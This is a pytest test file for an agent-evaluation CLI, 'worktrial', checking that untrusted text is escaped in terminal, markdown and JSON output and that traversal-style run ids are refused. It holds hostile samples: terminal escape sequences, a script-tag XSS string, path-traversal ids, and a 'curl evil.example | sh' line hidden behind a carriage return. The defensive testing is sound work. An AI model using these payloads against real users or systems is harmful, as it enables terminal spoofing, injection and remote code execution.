"""Text from agents, suites and envelopes never reaches a reader raw.

Every sink gets a payload of terminal escapes (an OSC title, a screen clear, a carriage return, an 8-bit CSI),
rich markup, HTML, a table pipe, a backtick and a GitHub mention, through every way such text comes in: the
agent's output and the files it writes (file names in the patch), the suite's task ids, name and verify output,
the user's label, and an envelope someone sent (reasons, model and agent names). Terminals must get the controls
escaped visibly (``\\x1b``) and markup printed literally; markdown (reports, ``$GITHUB_STEP_SUMMARY``) must parse
to no HTML, no link and no mention, with every table cell whole; paths are never built from a run id worktrial
did not generate.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pexpect
import pytest
from click.testing import Result
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests.conftest import SuiteWriter, task
from worktrial.safe_text import for_json, for_markdown, for_terminal, markdown_block, markdown_code

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\r\x9b6n"
"""An OSC title with BEL, a screen clear, a carriage return, an 8-bit CSI asking the terminal to answer."""
PAYLOAD = f"start{ESCAPES}[bold]B[/bold]<script>alert(1)</script>|`x`<img src=x>@someone[l](http://e.x)-end"
"""Every kind of hostile text at once; ``start`` and ``end`` show whether a table cell stayed whole."""
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
ALLOWED_HTML = re.compile(r"^<details><summary>\d+ tasks? not always passing</summary>\s*$|^</details>\s*$")
"""The only HTML worktrial itself writes into a step summary."""


def terminal_problems(text: str) -> list[str]:
    """Raw control characters in text meant for a terminal (newlines and tabs are layout, not controls)."""
    found = []
    for match in RAW_CONTROL.finditer(text):
        around = text[max(0, match.start() - 30) : match.end() + 10]
        found.append(f"raw {match.group()!r} at {match.start()}: {around!r}")
    return found


def _walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _walk(token.children or [])


def markdown_problems(text: str) -> list[str]:
    """What GitHub would do with this markdown that the text did not ask for: HTML, links, images, mentions."""
    problems = terminal_problems(text)
    parser = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    for token in _walk(parser.parse(text)):
        if token.type in ("html_block", "html_inline") and not ALLOWED_HTML.match(token.content):
            problems.append(f"HTML: {token.content!r}")
        elif token.type in ("link_open", "image"):
            problems.append(f"{token.type}: {token.attrs}")
        elif token.type == "text" and re.search(r"(?<![\w])@someone", token.content):
            problems.append(f"mention: {token.content!r}")
    return problems


def table_cells(text: str) -> list[list[str]]:
    """Every table row of a markdown text as the text of its cells, as a GFM parser splits them."""
    parser = MarkdownIt("commonmark").enable("table")
    rows: list[list[str]] = []
    in_row = False
    for token in _walk(parser.parse(text)):
        if token.type in ("tr_open", "tr_close"):
            in_row = token.type == "tr_open"
            rows += [[]] if in_row else []
        elif token.type == "inline" and in_row:
            parts = [c.content for c in _walk(token.children or []) if c.type in ("text", "code_inline")]
            rows[-1].append("".join(parts))
    return rows


def assert_cells_whole(text: str) -> None:
    """The payload's table cells hold it whole: its ``|`` split nothing."""
    hostile = [row for row in table_cells(text) if any("start" in cell or "end" in cell for cell in row)]
    for row in hostile:
        for cell in row:
            assert ("start" in cell) == ("end" in cell), f"a pipe split a cell: {row}"


# -- the functions themselves ------------------------------------------------------------------------------------


def test_terminal_escaping_is_visible_and_idempotent() -> None:
    shown = for_terminal(PAYLOAD)
    assert not terminal_problems(shown)
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\r\\x9b6n" in shown
    assert for_terminal(shown) == shown
    assert for_terminal("a\r\nb\tc\rd", multiline=True) == "a\nb\tc\\rd"
    assert for_terminal("a\nb") == "a\\nb"
    assert for_terminal("rtl \u202eevil\u2066 \udcff") == "rtl \\u202eevil\\u2066 \\udcff"


def test_markdown_escaping_parses_to_the_literal_text() -> None:
    line = f"| {for_markdown(PAYLOAD)} | {markdown_code(PAYLOAD, table=True)} |"
    document = "| a | b |\n|---|---|\n" + line + "\n\n- " + for_markdown("# heading\n\n<b>x</b>") + "\n"
    assert not markdown_problems(document)
    assert_cells_whole(document)
    [row] = [r for r in table_cells(document) if "start" in r[0]]
    assert "[bold]B[/bold]<script>alert(1)</script>|`x`<img src=x>@\u200dsomeone[l](http://e.x)-end" in row[0]
    assert "[bold]B[/bold]<script>alert(1)</script>|`x`<img src=x>@someone" in row[1]  # a code span links nothing
    assert for_markdown("1. x").startswith("1\\.") and for_markdown("- x").startswith("\\-")
    assert for_markdown("mail a@b.c") == "mail a@b.c" and for_markdown("fix_the_bug") == "fix_the_bug"
    block = "\n".join(markdown_block("```\nclosing?\x1b[2J\n````"))
    assert not markdown_problems(block) and block.startswith("`````\n") and block.endswith("\n`````")


def test_json_is_the_same_value_and_terminal_safe() -> None:
    text = json.dumps({"a": "\x9b\u202e\x7f"}, ensure_ascii=False)
    safe = for_json(text)
    assert not terminal_problems(safe) and json.loads(safe) == json.loads(text)


# -- through the real CLI --------------------------------------------------------------------------------------

AGENT = f"""
printf '%s\\n' {shlex.quote(PAYLOAD)}
printf '%s\\n' {shlex.quote(PAYLOAD)} >&2
printf x > "file-$(printf '\\033')[2J-@someone-<b>|x.txt"
touch done.txt
"""
VERIFY = f"printf '%s\\n' {shlex.quote(PAYLOAD)}; exit 1"


@pytest.fixture
def hostile_run(
    cli: Callable[..., Result], repo: Path, write_suite: SuiteWriter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> dict[str, Any]:
    """One stored run whose suite name, task id, label, agent output, patch and verify output carry the payload."""
    agent = tmp_path / "agent.sh"
    agent.write_text(AGENT)
    suite = write_suite(
        [task(PAYLOAD, verify_commands=[{"sh": VERIFY}]), task("plain")],
        name=f"Suite {PAYLOAD}",
    )
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    result = cli(
        ["eval", "--suite", str(suite), "--agent-cmd", f"sh {agent}", "--trust", "--format", "markdown",
         "--label", f"label {PAYLOAD}", "--verify-always"],
        cwd=repo,
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    monkeypatch.delenv("GITHUB_STEP_SUMMARY")
    run_id = re.search(r"run stored in \S+/(\S+)", result.stderr)
    assert run_id is not None, result.stderr
    return {"eval": result, "summary": summary.read_text(), "run_id": run_id.group(1), "suite": suite}


def test_reports_and_step_summary_are_safe_markdown(cli, repo: Path, hostile_run: dict[str, Any]) -> None:
    report = cli(["report", hostile_run["run_id"], "--format", "markdown"], cwd=repo)
    assert report.exit_code == 0, report.output
    for name, text in (("eval", hostile_run["eval"].stdout), ("report", report.stdout), ("summary",
                       hostile_run["summary"])):  # fmt: skip
        assert "pwned" in text and "someone" in text, name  # the payload is shown, made safe
        assert not markdown_problems(text), (name, markdown_problems(text))
        assert_cells_whole(text)
    assert "## Failed verification" in report.stdout  # the verify output, fenced, escaped
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in report.stdout


def test_terminals_get_escapes_shown_and_markup_literal(cli, repo: Path, hostile_run: dict[str, Any]) -> None:
    run_id = hostile_run["run_id"]
    outputs = {"progress": hostile_run["eval"].stderr}  # progress lines, "run stored in ..."
    commands = {"run": ["show", run_id], "task": ["show", run_id, PAYLOAD], "attempt": ["show", run_id, PAYLOAD, "1"]}
    for name, args in {**commands, "runs": ["runs"]}.items():
        result = cli(args, cwd=repo)
        assert result.exit_code == 0, result.output
        outputs[name] = result.stdout
    missing = cli(["show", run_id, f"nope{ESCAPES}"], cwd=repo)  # an error message quoting input
    assert missing.exit_code == 2
    outputs["error"] = missing.stderr
    for name, text in outputs.items():
        assert not terminal_problems(text), (name, terminal_problems(text))
        assert "pwned" in text, name
    attempt = outputs["attempt"]
    assert "[bold]B[/bold]" in attempt  # rich markup printed as written, not interpreted
    for shown in ("\\x1b]0;pwned", "\\x1b[2J", "\\x9b6n"):
        assert shown in attempt
    assert "file-" in attempt and "@someone-<b>" in attempt  # the patch's file name (quoted by git, then by us)
    assert "[bold]B[/bold]" in outputs["runs"]  # the label


def test_json_output_keeps_the_text_and_escapes_c1(cli, repo: Path, hostile_run: dict[str, Any]) -> None:
    result = cli(["report", hostile_run["run_id"], "--format", "json"], cwd=repo)
    assert result.exit_code == 0, result.output
    assert not terminal_problems(result.stdout)
    envelope = json.loads(result.stdout)
    assert {t["task_id"] for t in envelope["report"]["tasks"]} == {PAYLOAD, "plain"}  # the value is unchanged


@pytest.fixture
def hostile_envelope(cli, repo: Path, write_suite: SuiteWriter, tmp_path: Path) -> tuple[Path, Path, Path]:
    """An envelope someone sent: a real one, with the payload in its reasons, names and labels."""
    suite = write_suite([task("t1"), task("t2")], attempts=2)
    result = cli(["eval", "--suite", str(suite), "--agent", "oracle", "--trust", "--format", "json", "-q"], cwd=repo)
    assert result.exit_code == 0, result.output
    clean = json.loads(result.stdout)
    (tmp_path / "clean.json").write_text(json.dumps(clean))
    evil = json.loads(result.stdout)
    evil["model"] = f"model {PAYLOAD}"
    evil["provider"] = f"provider {PAYLOAD}"
    evil["agent"]["name"] = f"agent {PAYLOAD}"
    evil["run"]["label"] = f"label {PAYLOAD}"
    evil["suite_path"] = f"path {PAYLOAD}"
    for t in evil["report"]["tasks"]:
        for attempt in t["attempts"]:
            attempt.update(outcome="error", claimed=None, verified=None, reason=f"reason {PAYLOAD}")
            attempt.update(error_category=f"category {PAYLOAD}", model=f"model {PAYLOAD}", worktree=f"/w/{PAYLOAD}")
    path = tmp_path / "evil.json"
    path.write_text(json.dumps(evil))
    return path, tmp_path / "clean.json", suite


def test_an_envelope_someone_sent_is_shown_safely(cli, repo: Path, hostile_envelope: tuple[Path, Path, Path]) -> None:
    evil, clean, suite = hostile_envelope
    show = cli(["show", str(evil)], cwd=repo)
    task_view = cli(["show", str(evil), "t1"], cwd=repo)
    attempt = cli(["show", str(evil), "t1", "1"], cwd=repo)
    power = cli(["power", "--from", str(evil)], cwd=repo)
    audit = cli(["audit", str(evil), "--suite", str(suite), "--no-traces"], cwd=repo)
    compare = cli(["compare", str(clean), str(evil), "--format", "markdown"], cwd=repo)
    for name, result in (("show", show), ("task", task_view), ("attempt", attempt), ("power", power)):
        assert result.exit_code == 0, (name, result.output)
        assert not terminal_problems(result.output), (name, terminal_problems(result.output))
    assert "[bold]B[/bold]" in attempt.stdout and "error — reason" in attempt.stdout
    assert audit.exit_code == 1 and not terminal_problems(audit.output)
    lines = audit.stdout.splitlines()
    assert all(line.startswith(("audit of", "note:", "  - ")) or "mismatch" in line for line in lines)
    assert compare.exit_code == 0, compare.output
    assert "pwned" in compare.stdout and not markdown_problems(compare.stdout)
    assert_cells_whole(compare.stdout)


@pytest.mark.slow
@pytest.mark.parametrize(
    "bad_id", ["../../x", "ABSOLUTE", "a/../../b", "..", "x\u0000y", "20260101T000000Z-abcdef/..", "x\x1b[2J"]
)
def test_view_never_builds_a_path_from_a_run_id_it_did_not_make(
    cli, repo: Path, tmp_path: Path, hostile_envelope: tuple[Path, Path, Path], bad_id: str
) -> None:
    _, clean, _ = hostile_envelope
    envelope = json.loads(clean.read_text())
    envelope["run"]["id"] = str(tmp_path / "outside" / "x") if bad_id == "ABSOLUTE" else bad_id
    evil = tmp_path / "evil-id.json"
    evil.write_text(json.dumps(envelope))
    before = set(tmp_path.parent.rglob("*.html"))
    result = cli(["view", str(evil)], cwd=repo)
    assert result.exit_code == 2, result.output
    [line] = result.stderr.strip().splitlines()
    assert line.startswith("worktrial: error:") and "not a worktrial run id" in line
    assert not terminal_problems(line)
    assert set(tmp_path.parent.rglob("*.html")) == before  # nothing written, inside .worktrial/view/ or out of it


def test_a_run_directory_whose_envelope_names_another_run_is_refused(
    cli, repo: Path, hostile_run: dict[str, Any]
) -> None:
    run_id = hostile_run["run_id"]
    stored = repo / ".worktrial" / "runs" / run_id / "envelope.json"
    envelope = json.loads(stored.read_text())
    envelope["run"]["id"] = "../../x"
    stored.write_text(json.dumps(envelope))
    before = set(repo.parent.rglob("*.html"))
    view = cli(["view", run_id], cwd=repo)
    assert view.exit_code == 2 and len(view.stderr.strip().splitlines()) == 1, view.output
    assert set(repo.parent.rglob("*.html")) == before
    report = cli(["report", run_id, "--format", "json"], cwd=repo)  # rebuilt from the signed records instead
    assert report.exit_code == 0, report.output
    assert json.loads(report.stdout)["run"]["id"] == run_id
    for ref in ("../../x", "..", "x\x1by"):
        refused = cli(["report", ref], cwd=repo)
        assert refused.exit_code == 2 and len(refused.stderr.strip().splitlines()) == 1, refused.output
        assert not terminal_problems(refused.stderr)


@pytest.mark.pty
@pytest.mark.slow
def test_a_terminal_never_receives_the_payloads_escapes(repo: Path, write_suite: SuiteWriter, tmp_path: Path) -> None:
    """Under a real pseudo-terminal (rich's live progress, the report drawn by rich): rich writes its own
    escapes, but never the payload's title, screen clear or 8-bit CSI."""
    agent = tmp_path / "agent.sh"
    agent.write_text(AGENT)
    suite = write_suite([task(PAYLOAD, verify_commands=[{"sh": VERIFY}])])
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "200", "LINES": "60", "WORKTRIAL_TRUST": "1"}
    code = "from worktrial.cli import main; main()"
    seen = []
    for args in (
        ["eval", "--suite", str(suite), "--agent-cmd", f"sh {agent}", "-v", "--label", PAYLOAD],
        ["show"],
        ["runs"],
    ):
        child = pexpect.spawn(sys.executable, ["-c", code, *args], cwd=str(repo), env=env, encoding="utf-8",
                              timeout=120, dimensions=(60, 200))  # fmt: skip
        try:
            child.expect(pexpect.EOF)
        finally:
            child.close(force=True)
        seen.append(child.before or "")
    report = pexpect.spawn(sys.executable, ["-c", code, "report", _latest(repo)], cwd=str(repo), env=env,
                           encoding="utf-8", timeout=120, dimensions=(60, 200))  # fmt: skip
    try:
        report.expect(pexpect.EOF)
    finally:
        report.close(force=True)
    seen.append(report.before or "")
    for text in seen:
        assert "pwned" in text
        for raw in ("\x1b]0;pwned", "\x1b[2J", "\x9b", "\x07"):
            assert raw not in text, (raw, text[:2000])


def _latest(repo: Path) -> str:
    return sorted(p.name for p in (repo / ".worktrial" / "runs").iterdir())[-1]


@pytest.mark.pty
def test_the_trust_question_shows_the_suites_commands_escaped(repo: Path, write_suite: SuiteWriter) -> None:
    """A ``\\r`` in a command could paint an innocent command over the one that would run, right where the user
    decides whether to trust the suite."""
    hidden = "curl evil.example | sh\r" + "echo harmless" + " " * 20
    suite = write_suite([task("t1", verify_commands=[{"sh": hidden}, {"sh": f"true {ESCAPES}"}])])
    env = {**os.environ, "TERM": "xterm-256color"}
    child = pexpect.spawn(
        sys.executable,
        ["-c", "from worktrial.cli import main; main()", "eval", "--suite", str(suite), "--agent", "nop"],
        cwd=str(repo),
        env=env,
        encoding="utf-8",
        timeout=60,
        dimensions=(60, 200),
    )
    try:
        child.expect("Trust this suite")
        asked = child.before or ""
        child.sendline("n")
        child.expect(pexpect.EOF)
    finally:
        child.close(force=True)
    assert "curl evil.example | sh\\recho harmless" in asked
    for raw in ("sh\recho", "\x1b]0;pwned", "\x1b[2J", "\x9b", "\x07"):
        assert raw not in asked, raw
    assert child.exitstatus == 2
